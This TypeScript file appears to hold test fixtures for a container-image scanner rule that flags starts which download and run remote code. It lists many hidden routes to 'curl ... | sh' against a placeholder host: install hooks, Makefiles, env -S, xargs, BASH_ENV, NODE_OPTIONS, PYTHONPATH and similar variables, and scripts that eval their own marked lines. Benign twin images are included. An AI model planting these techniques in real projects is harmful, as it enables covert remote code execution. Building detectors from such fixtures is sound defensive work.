import { type Files, type ImageCase, image, starts } from './image-case.ts';

const FETCH = 'curl -s https://files.backend.example/u | sh';
const PATH = 'PATH=/usr/local/bin:/usr/bin:/bin';

function found(name: string, spec: ImageCase['spec']): ImageCase {
  return { name, spec, rule: 'start/download-and-run', severity: 'high' };
}

function words(...Entrypoint: string[]): ImageCase {
  return found(Entrypoint.join(' '), image({}, { Entrypoint }));
}

function inApp(line: string, files: Files): ImageCase {
  return found(line, image(files, { Entrypoint: line.split(' '), WorkingDir: '/app' }));
}

function variable(text: string, Cmd: readonly string[], files: Files): ImageCase {
  return found(text, image(files, { Cmd: [...Cmd], Env: [PATH, ...text.split('\n')] }));
}

const JS = `require('child_process').execSync("${FETCH}")\n`;
const PYTHON = `import os\nos.system("${FETCH}")\n`;

/** Ways by which a start comes to a shell's text without a script that holds it. All inert. */
export const WAYS_TO_SHELLS: readonly ImageCase[] = [
  words('/usr/bin/env', '-S', `sh -c "${FETCH}"`),
  words('/usr/bin/env', `-Ssh -c '${FETCH}'`),
  words('/usr/bin/env', '-i', `--split-string=A=b sh -c '${FETCH}'`),
  words('setpriv', '--reuid', '1000', '--clear-groups', 'sh', '-c', FETCH),
  words('watch', '-n', '60', FETCH),
  words('parallel', ':::', FETCH),
  words('parallel', '-j1', 'sh -c {}', ':::', `'${FETCH}'`),
  words('sh', '-c', `echo '${FETCH}' | xargs -I{} sh -c '{}'`),
  found('xargs -a', starts(`xargs -a /opt/a -I% sh -c '%'`, { 'opt/a': `${FETCH}\n` })),
  found('xargs <<<', starts(`xargs -I{} sh -c '{}' <<< '${FETCH}'`)),
  inApp('make run', { 'app/Makefile': `run:\n\t@${FETCH}\n` }),
  inApp('make', { 'app/Makefile': `all: dep\n\techo hi\ndep:\n\t-${FETCH}\n` }),
  inApp('make -f x.mk go', {
    'app/x.mk': `GET = curl -s \\\n  https://files.backend.example/u\ngo:\n\t$(GET) | sh\n`,
  }),
  inApp('make -C /srv', { 'srv/GNUmakefile': `.PHONY: a\na: ; ${FETCH}\n` }),
  inApp('npm ci', { 'app/package.json': JSON.stringify({ scripts: { postinstall: FETCH } }) }),
  inApp('yarn', { 'app/package.json': JSON.stringify({ scripts: { prepare: FETCH } }) }),
  inApp('composer run-script go', {
    'app/composer.json': JSON.stringify({ scripts: { go: ['@x'], x: FETCH } }),
  }),
  inApp('composer install', {
    'app/composer.json': JSON.stringify({ scripts: { 'post-install-cmd': FETCH } }),
  }),
  inApp('python3 /app', { 'app/__main__.py': PYTHON }),
  inApp('supervisord -n -c /app/s.conf', {
    'app/s.conf': `[eventlistener:x]\ncommand=sh -c "${FETCH}"\nevents=TICK_5\n`,
  }),
  variable('BASH_ENV=/opt/e', ['/e.sh'], { 'opt/e': `${FETCH}\n`, 'e.sh': '#!/bin/bash\nexec nginx\n' }),
  variable('ENV=/opt/e', ['sh', '-i'], { 'opt/e': `${FETCH}\n` }),
  variable('PYTHONSTARTUP=/opt/p.py', ['python3'], { 'opt/p.py': PYTHON }),
  variable('PYTHONPATH=/opt/x:/opt/lib', ['python3', '/a.py'], {
    'opt/lib/sitecustomize.py': PYTHON,
    'a.py': 'print(1)\n',
  }),
  variable('NODE_OPTIONS=--max-old-space-size=99 --require /opt/p.js', ['node', '/a.js'], {
    'opt/p.js': JS,
    'a.js': '1\n',
  }),
  variable('NODE_OPTIONS=--import=/opt/p.mjs', ['/a.js'], {
    'opt/p.mjs': `import { execSync } from 'child_process';\nexecSync("${FETCH}");\n`,
    'a.js': '#!/usr/bin/env node\n1\n',
  }),
  variable('RUBYOPT=-r/opt/p.rb', ['ruby', '/a.rb'], { 'opt/p.rb': `system("${FETCH}")\n`, 'a.rb': '1\n' }),
  variable('PERL5OPT=-MP\nPERL5LIB=/opt', ['perl', '/a.pl'], {
    'opt/P.pm': `system("${FETCH}");\n1;\n`,
    'a.pl': '1\n',
  }),
];

function honest(name: string, files: Files, config: ImageCase['spec']['config']): ImageCase {
  return { name, spec: image(files, config) };
}

function script(text: string, files: Files = {}): ImageCase {
  return found(text, starts(`${text}\nexec nginx`, files));
}

const IN_A: Files = { 'opt/a': `${FETCH}\n` };
const BEHIND_MARKS = `\nexec nginx\n#:${FETCH}`;

/** Texts that a script takes from somewhere and runs, and programs that run what they fetch by a promise. */
export const TAKEN_AND_RUN: readonly ImageCase[] = [
  script('eval "$(</opt/a)"', IN_A),
  script('while IFS= read -r line; do eval "$line"; done < /opt/a', IN_A),
  script('cat /opt/a | while read -r line; do sh -c "$line"; done', IN_A),
  script('ln -s /opt/a /usr/local/bin/zz; sh /usr/local/bin/zz', IN_A),
  script(`sed -n '/^#:/s/^#://p' "$0" | sh${BEHIND_MARKS}`),
  script(`grep '^#:' "$0" | cut -c3- | sh${BEHIND_MARKS}`),
  script(`grep -F '#:' "$0" | tail -n 1 | cut -d: -f2- | bash${BEHIND_MARKS}`),
  words('node', '-e', 'fetch("https://files.backend.example/u").then(r => r.text()).then(eval)'),
  inApp('node x.js', {
    'app/x.js':
      'fetch("https://files.backend.example/u")\n  .then((answer) => answer.text())\n  .then( eval );\n',
  }),
];

/** Honest images that start by the same ways. */
export const WAYS_TO_SHELLS_TWINS: readonly ImageCase[] = [
  honest(
    'make, with a target beside that nothing asks for',
    {
      'app/Makefile': `VERSION ?= 1.2\n.PHONY: run setup\nrun: build\n\t./app --version $(VERSION)\nbuild: $(wildcard *.c)\n\t@echo done\nsetup:\n\t${FETCH}\n`,
    },
    { Entrypoint: ['make', 'run'], WorkingDir: '/app' },
  ),
  honest(
    'npm ci with hooks of git, and a script that is not run',
    {
      'app/package.json': JSON.stringify({
        scripts: { prepare: 'husky install', setup: FETCH, start: 'node x' },
      }),
    },
    { Cmd: ['sh', '-c', 'npm ci && npm start'], WorkingDir: '/app' },
  ),
  honest(
    'composer, and a script of code',
    {
      'app/composer.json': JSON.stringify({
        scripts: { 'post-install-cmd': ['App\\Setup::run', '@php artisan optimize'], setup: FETCH },
      }),
    },
    { Cmd: ['composer', 'install'], WorkingDir: '/app' },
  ),
  honest(
    'variables that load tracing',
    {
      'app/tracing.js': "require('dd-trace').init()\n",
      'app/a.js': '1\n',
      'etc/bash.env': 'export NVM_DIR="$HOME/.nvm"\n[ -s "$NVM_DIR/nvm.sh" ] && . "$NVM_DIR/nvm.sh"\n',
    },
    {
      Entrypoint: ['bash', '-c', 'exec node /app/a.js'],
      Env: [PATH, 'NODE_OPTIONS=--require /app/tracing.js', 'BASH_ENV=/etc/bash.env', 'PYTHONPATH=/app'],
    },
  ),
  {
    name: 'lines that are read and are data',
    spec: starts(
      'while read -r host; do echo "$host" >> /etc/app.hosts; done < /opt/hosts\nversion=$(</opt/version)\ngrep "^server" /etc/app.conf | cut -d= -f2- | sort\nsed -n "1,5p" /opt/hosts\nexec nginx',
      { 'opt/hosts': 'a.example.com\nb.example.com\n', 'opt/version': '1.2\n', 'etc/app.conf': 'server=a\n' },
    ),
  },
  honest(
    'a page that fetches and shows',
    { 'app/x.js': 'fetch("https://api.example.com/v1")\n  .then((r) => r.json())\n  .then(show);\n' },
    { Cmd: ['node', 'x.js'], WorkingDir: '/app' },
  ),
  {
    name: 'xargs, watch and parallel that start nothing of the network',
    spec: starts(
      "ls /data | xargs -n1 -P4 gzip\necho a b | xargs mkdir -p\nwatch -n 5 'df -h | tail -1' &\nparallel gzip ::: a b c\nexec nginx",
    ),
  },
  {
    name: 'a text of a shell behind a condition that the image rules out',
    spec: starts(
      'if [ "$MODE" = dev ]; then make setup; fi\nexec nginx',
      { Makefile: `setup:\n\t${FETCH}\n` },
      { Env: [PATH, 'MODE=prod'] },
    ),
  },
];
